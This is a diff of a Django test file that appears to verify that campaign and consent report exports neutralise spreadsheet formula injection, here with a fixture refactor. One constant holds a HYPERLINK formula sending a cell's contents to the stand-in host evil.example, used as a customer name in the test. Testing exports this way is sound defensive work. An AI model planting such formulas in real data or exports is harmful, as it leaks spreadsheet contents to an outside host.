@@ -17,6 +17,10 @@ from django.test import Client
 from agrega.contracts import services as contracts
 from agrega.core import csvio
 from agrega.core.roles import assign_role
+from tests.fixtures import default_packages, default_platform_only
+
+sva_platform = default_platform_only()
+PACKAGES = default_packages()
 
 ROOT = Path(__file__).resolve().parents[2] / "agrega"
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1;"clique")'
@@ -71,13 +75,13 @@ def operator_client(db):
     return client
 
 
-def test_campaign_and_consent_reports_neutralise_a_formula(operator_client, integration, make_product,
+def test_campaign_and_consent_reports_neutralise_a_formula(operator_client, platform_integration, make_product,
                                                            make_contract, make_customer, tmp_path):
     from agrega.campaigns.models import Campaign
 
     evil = make_customer(name=FORMULA, city="Campinas")
     # consent report: an SVA charged without consent, the customer's name in the row
-    charged = make_product(integration, name="EXA Relatório", package="EXA-BACKUP-100")
+    charged = make_product(platform_integration, name="EXA Relatório", package=PACKAGES[2])
     contract = make_contract(evil)
     contracts.contract_add_product(contract=contract, product_id=charged.pk)
     contracts.contract_activate(contract=contract)
@@ -86,7 +90,7 @@ def test_campaign_and_consent_reports_neutralise_a_formula(operator_client, inte
     _assert_neutralised(answer.content.decode())
 
     # campaign report: page and CLI
-    sva = make_product(integration, name="EXA Campanha")
+    sva = make_product(platform_integration, name="EXA Campanha")
     code = call_command("campaign", "create", "--name", "C", "--product", str(sva.pk), "--city", "Campinas",
                         "--rate", "50", stdout=io.StringIO())
     assert code is None
